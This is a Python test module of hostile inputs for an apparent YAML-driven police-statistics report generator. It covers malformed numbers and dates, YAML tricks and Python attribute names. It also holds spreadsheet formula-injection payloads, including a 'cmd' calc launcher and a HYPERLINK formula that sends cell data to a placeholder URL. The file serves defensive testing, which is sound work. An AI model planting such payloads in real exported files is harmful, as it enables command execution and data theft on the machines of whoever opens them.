"""Figures, names and dates that are none, or that a spreadsheet would take for a command."""

from tests.hostile.site import AREA, NATIONAL, YEAR, Hostile, Plant, Site, harmless, refused, value

_FIGURES = f"{YEAR}/statistics.yaml"
_NO_FIGURES = {
    "a number of a hundred thousand digits": "9" * 100_000,
    "a power of ten": "1e999999999",
    "infinity": ".inf",
    "no number": ".nan",
    "a negative number": "-5",
    "a hexadecimal number": "0xFF",
    "Arabic digits": "\u0661\u0662",
    "full-width digits": "\uff11\uff12",
    "digits above": "\u00b2",
    "a formula": "'=1+1'",
    "a call of a program": "'=cmd|''/c calc''!A1'",
    "a list": "[1, 2]",
    "a mapping": "{a: 1}",
    "separators without end": "'1" + ",000" * 30_000 + "'",
    "spaces without end": "'5" + " " * 100_000 + "x'",
    "a fact": "'{{ area.name }}'",
    "decimals without end": "5." + "0" * 50_000,
    "an underscore": "1_000",
    "a sexagesimal number": "1:30:00",
    "a truth": "yes",
}
_FORMULAE = {
    "equals": "=cmd|'/c calc'!A1",
    "plus": "+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "a link": '=HYPERLINK("{url}?x="&A1,"Click")',
    "behind a quotation mark": '"=1+1"',
    "behind a separator": ",=1+1",
    "an address": "{url}/x",
    "an external address": "external:c:\\temp\\x.xlsx",
    "an array formula": "{=1+1}",
}


def _label(words: str) -> Plant:
    """Return what makes a label of the form, and the name of a police area, these words."""
    from tests.hostile.site import fill

    def plant(site: Site) -> None:
        quoted = "'" + fill(words, site).replace("'", "''") + "'"
        site.edit(f"{NATIONAL}/statistics.yaml", 'label: "Category 1"', f"label: {quoted}")
        site.edit(f"{NATIONAL}/statistics.yaml", "label: Level 1}", f"label: {quoted}}}")
        site.edit(f"{AREA}/area.yaml", "name: Ambridge", f"name: {quoted}")
        site.edit(f"{AREA}/area.yaml", "name: Borsetshire\n", f"name: {quoted}\n")

    return plant


INPUTS: tuple[Hostile, ...] = (
    *(
        refused(
            f"figure: {name}", "2009-10/statistics.yaml", value(_FIGURES, "applied_for: 9", f"applied_for: {words}")
        )
        for name, words in _NO_FIGURES.items()
    ),
    *(harmless(f"label: a formula, {name}", _label(words)) for name, words in _FORMULAE.items()),
    refused(
        "figure: a table that is none",
        "2009-10/statistics.yaml",
        value(_FIGURES, "orders:", "__class__: {a: 1}\norders:"),
    ),
    refused(
        "figure: as YAML of two keys",
        "2009-10/statistics.yaml",
        value(_FIGURES, "applied_for: 9", "applied_for: 9\n  applied_for: 10"),
    ),
    refused(
        "date: the year ten thousand",
        "report.yaml",
        value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "10000-10-11 09:30"),
    ),
    refused(
        "date: of no calendar", "report.yaml", value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "2010-02-31 25:61")
    ),
    refused("date: seconds", "report.yaml", value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "99999999999999")),
    refused(
        "date: the year nought", "report.yaml", value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "0000-01-01 00:00")
    ),
    harmless("date: the first of all", value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "0001-01-01 00:00")),
    harmless("date: the last of all", value(f"{YEAR}/report.yaml", "2010-10-11 09:30", "9999-12-31 23:59")),
    refused(
        "number: columns without end",
        "report.yaml",
        value(f"{YEAR}/report.yaml", "columns: 2", "columns: " + "9" * 5000),
    ),
    refused(
        "number: decimals without end",
        "2009-10/statistics.yaml",
        value(f"{NATIONAL}/statistics.yaml", "decimals: 2", "decimals: 999999999"),
    ),
    refused(
        "number: a threshold beyond all",
        "report.yaml",
        value(f"{YEAR}/report.yaml", "status: final", "status: final\nsuppress_below: 999999999"),
    ),
    refused(
        "id: an attribute of Python", "area.yaml", value(f"{AREA}/area.yaml", "manager: {office", "__class__: {office")
    ),
    harmless(
        "id: names of methods",
        value(f"{AREA}/area.yaml", "manager: {office", "items: {office: x}\n  get: {office: y}\n  manager: {office"),
    ),
    refused(
        "form: a sum of itself",
        "2009-10/statistics.yaml",
        value(
            f"{NATIONAL}/statistics.yaml",
            "{id: total, label: Total, sum: all}\n        rows:\n          - {id: category_1",
            "{id: total, label: Total, sum: [total]}\n        rows:\n          - {id: category_1",
        ),
    ),
    refused(
        "form: sums in a circle",
        "2009-10/statistics.yaml",
        value(
            f"{NATIONAL}/statistics.yaml",
            "{id: level_2, label: Level 2}\n          - {id: total, label: Total, sum: all}",
            "{id: level_2, label: Level 2, sum: [total]}\n          - {id: total, label: Total, sum: [level_2]}",
        ),
    ),
    refused(
        "form: a share of nothing",
        "2009-10/statistics.yaml",
        value(f"{NATIONAL}/statistics.yaml", "part: eligible.all.level_1", "part: eligible.__class__.level_1"),
    ),
)
